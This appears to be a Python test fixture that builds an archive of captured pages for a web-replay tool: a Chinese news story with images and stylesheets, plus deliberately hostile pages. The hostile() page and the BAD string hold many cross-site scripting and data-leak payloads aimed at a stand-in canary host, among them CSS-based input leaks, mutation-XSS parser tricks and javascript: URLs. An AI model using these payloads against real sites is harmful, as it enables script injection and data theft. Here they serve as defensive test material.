"""An archive of captured pages to replay: a news site's, and hostile ones."""

import struct
import zlib
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from archive import (
    Alias,
    Archive,
    Article,
    Crumb,
    Evidence,
    Exchange,
    Image,
    Person,
    Visit,
)
from tests import archives

SITE = "http://news.example"
NIGHT = datetime(2026, 3, 1, 12, tzinfo=UTC)


def png(width: int, height: int) -> bytes:
    """A picture of these pixels: a red sky that pales towards the ground."""
    rows = b"".join(
        b"\0" + bytes((200, 60 + 150 * y // height, 60 + 120 * y // height)) * width
        for y in range(height)
    )
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(said))
        + kind
        + said
        + struct.pack(">I", zlib.crc32(kind + said))
        for kind, said in parts
    )


PNG = png(480, 270)
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x01\x00\xee\xf2\xe8\x00\x00\x00\x00"
    b"!\xf9\x04\x01\x00\x00\x01\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)

STORY = f"{SITE}/2010/07/21/1.shtml"
STORY_PAGE = """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"
 "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html><head><title>草原来了候鸟</title>
<meta http-equiv="Content-Type" content="text/html; charset=gb2312">
<link rel="stylesheet" href="/style/main.css"><script src="/ad.js"></script></head>
<body background="/i/tile.gif">
<div class="nav"><a href="/list.html">新闻</a>
<a href="http://other.example/">友情链接</a>
<a href="#text">正文</a> <a href="mailto:a@news.example">投稿</a></div>
<h1>草原来了候鸟</h1>
<div id="text"><p>镕喆在湖边看见了三百只候鸟。</p>
<img id="there" src="/i/bird.png" width="60" height="40" alt="候鸟">
<img id="lazy" src="/i/blank.gif" data-original="/i/bird.png?v=3" width="30">
<img id="missing" src="/i/gone.jpg" width="60" height="40" alt="湖面">
<picture><source srcset="/i/bird.png 2x"><img id="choice" src="/i/gone.jpg"></picture>
<noscript><b id="plain">没有脚本也看得见</b></noscript></div>
<iframe src="/weather.html" width="200" height="60"></iframe>
<iframe src="http://ads.example/frame.html"></iframe>
</body></html>"""

STYLE = """@charset "gb2312"; @import "more.css"; @import url(gone.css) print;
h1 { color: rgb(1, 2, 3) } /* url(x.png) */
.nav { background: url("../i/tile.gif") }
.no { background: url(//ads.example/x.png) }"""


def hostile(canary: str) -> str:
    """A page that tries to run and to reach an address; what it must not do.

    canary: `http://host:port`, where somebody listens.
    """
    return f"""<!DOCTYPE html><html manifest="{canary}/manifest" onclick="steal()">
<head><base href="{canary}/" target="_top"><title>a</title>
<title><a href="{canary}/title">t</title>
<meta http-equiv="refresh" content="0;url={canary}/refresh">
<meta http-equiv="REFRESH" content="0;url=data:text/html,<script>steal()</script>">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="Set-Cookie" content="a=b"><meta charset="utf-7">
<link rel="stylesheet" href="{canary}/sheet.css">
<link rel="preload" as="image" href="{canary}/preload.png">
<link rel="prefetch dns-prefetch preconnect" href="{canary}/prefetch">
<link rel="icon" href="{canary}/icon.ico"><link rel="manifest" href="{canary}/m.json">
<style>@import "{canary}/a.css"; @IMPORT url( {canary}/b.css );
@\\69mport "{canary}/c.css"; body {{ background: u\\72l({canary}/d.png) }}
input[value^="s"] {{ background: url('{canary}/leak?s') }}
@font-face {{ font-family: f; src: url({canary}/f.woff) }} p {{ font-family: f }}
p {{ background: image-set("{canary}/e.png" 1x); cursor: url({canary}/g.cur), auto }}
#x::before {{ content: url({canary}/h.png) }}
</style></style>
<style><!-- p {{ color: red }} </sty le><img src="{canary}/i.png"></style>
<script>steal()</script><script src="{canary}/s.js"></script>
<script type="module">import "{canary}/m.js"; document.title = "ran"</script>
</head><body onload="steal()" background="{canary}/bg.png">
<h1 id="shown">敌意</h1><p id="x">x</p>
<img src="{canary}/1.png" onerror="steal()"><img srcset="{canary}/2.png 2x">
<img src=x onerror=steal()><image src="{canary}/3.png"/>
<input type=image src="{canary}/4.png">
<video poster="{canary}/5.png" src="{canary}/5.mp4" autoplay></video>
<audio src="{canary}/6.mp3" autoplay></audio><bgsound src="{canary}/7.wav">
<object data="{canary}/8.swf"><embed src="{canary}/9.swf"></object>
<applet code="{canary}/10.class"></applet>
<iframe src="{canary}/11.html"></iframe><iframe src="javascript:steal()"></iframe>
<iframe srcdoc="<script>steal()</script><img src='{canary}/12.png'>"></iframe>
<iframe src="data:text/html,<img src={canary}/13.png>"></iframe>
<svg onload="steal()"><image xlink:href="{canary}/14.png" href="{canary}/15.png"/>
<use href="{canary}/16.svg#a"/>
<a xlink:href="javascript:steal()"><text y="20">a</text></a>
<set attributeName="href" to="javascript:steal()"/>
<style>@import "{canary}/17.css";</style>
<foreignObject><img src="{canary}/18.png"></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src={canary}/19.png onerror=steal()&gt;"></table>
</mtext></math>
<noscript><p title="</noscript><img src={canary}/20.png onerror=steal()>"></noscript>
<!--><img src="{canary}/21.png" onerror="steal()">-->
<!--[if IE]><img src="{canary}/22.png"><![endif]-->
<xmp><img src="{canary}/23.png"></xmp>
<textarea><img src="{canary}/24.png"></textarea>
<noembed><img src="{canary}/25.png"></noembed>
<template><img src="{canary}/26.png"></template>
<a id="js" href="javascript:steal()">a</a>
<a id="jst" href=" java\tscript:steal()">b</a>
<a id="data" href="data:text/html,<script>steal()</script>">c</a>
<a id="out" href="{canary}/out" ping="{canary}/ping" target="_top">d</a>
<a id="base" href="27.html">e</a> <area href="{canary}/28.html">
<form id="f" action="{canary}/form" method="post" target="_top">
<input name="q" value="secret"><button id="send" formaction="{canary}/fa">f</button>
<input type="submit" id="go"></form>
<div style="background:url({canary}/29.png);position:fixed;top:0">g</div>
<table background="{canary}/30.png"><tr><td background="{canary}/31.png">h</table>
<a<b href="{canary}/32">i</a<b>
<plaintext><img src="{canary}/33.png" onerror="steal()">"""


FRAMES = """<html><head><title>框架</title></head><frameset cols="50%,50%">
<frame src="/weather.html"><frame src="http://ads.example/"></frameset></html>"""


def page(
    path: str,
    body: bytes,
    head: str = "text/html",
    status: str = "200 OK",
    more: str = "",
) -> Exchange:
    """What came from an address of the site."""
    lines = f"HTTP/1.1 {status}\r\nContent-Type: {head}\r\n{more}\r\n".encode()
    url = path if "://" in path else SITE + path
    return Exchange(
        url=url,
        captured_at=NIGHT,
        request=b"GET / HTTP/1.1\r\n\r\n",
        response=lines + body,
    )


def looks(canary: str) -> Iterator[Visit]:
    """Every page, picture and style sheet of the site, and of the hostile one."""
    gbk = STORY_PAGE.encode("gb18030")
    story = _look(page("/2010/07/21/1.shtml", gbk, "text/html; charset=ISO-8859-1"))
    yield replace(story, kind="article", article=_article(), extractor="1")
    yield _look(page("/i/bird.png", PNG, "text/html"))
    yield _look(page("/i/tile.gif", GIF, "image/gif"))
    yield _look(page("/i/blank.gif", GIF, "image/gif"))
    yield _look(page("/style/main.css", STYLE.encode("gb18030"), "text/css"))
    yield _look(page("/style/more.css", b"b { color: rgb(4, 5, 6) }", "text/css"))
    yield _look(page("/weather.html", "<p id=w>晴</p>".encode(), "text/html"))
    yield _look(page("/list.html", f"<a href={STORY}>草原</a>".encode(), "text/html"))
    yield _look(page("/frames.html", FRAMES.encode(), "text/html; charset=utf-8"))
    yield _look(page("/hostile.html", hostile(canary).encode(), "text/html"))
    script = f'<script>location="{canary}"</script>'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>'
    yield _look(page("/i/evil.svg", svg.encode(), "image/svg+xml"))
    yield _look(
        page('/a/"><b>\u202e..%2f..%2fx.exe', b"MZ\0\0", "application/x-msdownload")
    )
    yield _look(page("/robots.txt", b"Disallow: /<b>", "text/plain"))
    moved = "Location: /2010/07/21/1.shtml\r\n"
    yield _look(page("/old.html", b"", "text/html", "302 Found", moved))
    yield _look(page("/404.html", b"<h1>no</h1>", "text/html", "404 Not Found"))
    cut = page("/cut.html", b"<p>cut", "text/html")
    yield _look(replace(cut, truncated="length"))
    later = page("/i/bird.png", GIF, "image/gif")
    yield _look(replace(later, captured_at=NIGHT + timedelta(days=400)))


def _look(exchange: Exchange) -> Visit:
    return Visit(
        url=exchange.url,
        site="example",
        visited_at=exchange.captured_at,
        kind="page",
        state="captured",
        exchange=exchange,
    )


PARAGRAPHS = (
    "镕喆在湖边看见了三百只候鸟，它们从南方飞来，在冰面刚刚化开的水边停下。",
    "牧民说，往年这个时候湖水还没有解冻，今年春天来得早，芦苇已经发了新芽。",
    "保护站的工作人员每天清晨沿着湖岸走一圈，记下看见的鸟的种类和数目。",
    "种类\t数目",
    "大雁\t120",
    "天鹅\t85",
    "工作人员提醒游客不要靠近芦苇丛，也不要投喂。",
    "当地的学校组织学生来观鸟，老师把望远镜一个一个传下去。",
)
"""Of our own writing."""


def _article() -> Article:
    return Article(
        url=STORY,
        kind="article",
        site="example",
        title="草原来了候鸟",
        kicker="春到湿地",
        subtitle="保护站每天清晨沿湖记录",
        published="2010-07-21T17:18:00+08:00",
        published_text="10-07-21 17:18",
        source="内蒙古日报",
        byline="记者 镕喆 摄影 安华祎",
        people=(
            Person(name="镕喆", role="reporter", affiliation="新华社"),
            Person(name="安华祎", role="photographer"),
            Person(name="李明", role="editor"),
        ),
        breadcrumb=(
            Crumb(name="新闻", url=f"{SITE}/list.html"),
            Crumb(name="生态", url="javascript:alert(1)"),
        ),
        body="\n".join(PARAGRAPHS),
        images=(
            Image(url=f"{SITE}/i/bird.png", caption="湖边的候鸟", position=1),
            Image(url=f"{SITE}/i/gone.jpg", caption="清晨的湖面", position=3),
        ),
        pages=(STORY, f"{SITE}/2010/07/21/1_2.shtml"),
        keywords=("候鸟", "湿地"),
        language="zh-CN",
        evidence=(
            _seen("encoding", "declaration", "meta: gb2312", "gb18030"),
            _seen("title", "layout", "/html/body/h1", "草原来了候鸟"),
            _seen("published", "layout", "/html/body/div[2]/span", "10-07-21 17:18"),
            _seen("body", "layout", "/html/body/div[2]", None),
        ),
    )


def _seen(field: str, rule: str, place: str, text: str | None) -> Evidence:
    return Evidence(field=field, rule=rule, place=place, text=text)


BAD = '"><script>steal()</script><img src=x onerror=steal()>\u202e{{7*7}}'
"""A text that would like to be markup."""

BAD_URL = f"{SITE}/bad.html"


def _bad() -> Article:
    return Article(
        url=BAD_URL,
        kind="article",
        site="example",
        title=BAD,
        kicker=BAD,
        subtitle=BAD,
        published="2010-07-22",
        published_text=BAD,
        source="../..",
        source_url="javascript:steal()",
        byline=BAD,
        people=(Person(name=BAD, role="reporter", affiliation=BAD),),
        breadcrumb=(
            Crumb(name=BAD, url="javascript:steal()"),
            Crumb(name=BAD, url=BAD),
        ),
        body=f"{BAD}\n{BAD}\t{BAD}",
        images=(Image(url="javascript:steal()", caption=BAD),),
        pages=("javascript:steal()", BAD),
        keywords=(BAD, '" OR "'),
        language=BAD,
        evidence=(_seen("title", BAD, BAD, BAD),),
    )


def revised() -> Iterator[Visit]:
    """Later looks: the text changes, is gone, and is back; and texts that are alike."""
    first = _article()
    lines = list(PARAGRAPHS)
    lines[0] = lines[0].replace("三百只", "五百只")
    lines[7] = lines[7].replace("望远镜一个一个传下去", "看到的都记在本子上")
    changed = replace(
        first, title="草原来了五百只候鸟", body="\n".join([*lines, "记者将继续关注。"])
    )
    yield _read(changed, 3)
    gone = page("/2010/07/21/1.shtml", b"", "text/html", "404 Not Found")
    gone = replace(gone, captured_at=NIGHT + timedelta(days=9))
    yield replace(_look(gone), kind="article", state="gone", reason="404 Not Found")
    yield _read(changed, 20)
    copy = replace(first, url=f"{SITE}/copy.html", source="转载报", pages=(), images=())
    yield _read(copy, 1)
    yield _read(_bad(), 1)
    yield _read(replace(_bad(), title=BAD + "2", body=f"{BAD}3\n{BAD}"), 2)
    alias = Alias(url=f"{SITE}/old.html", leads_to=STORY, reason="redirect")
    yield replace(_read(changed, 21), aliases=(alias,))


def _read(said: Article, day: int) -> Visit:
    body = f"<title>{said.title}</title><p>{said.body}".encode("gb18030", "replace")
    sent = page(said.url, body)
    sent = replace(sent, captured_at=NIGHT + timedelta(days=day))
    return replace(_look(sent), kind="article", article=said, extractor="1")


def make(path: Path, canary: str = "http://canary.example") -> Path:
    """An archive of these captures; its folder."""
    with Archive.create(path) as archive:
        archives.fill(archive, [*looks(canary), *revised()])
    return path
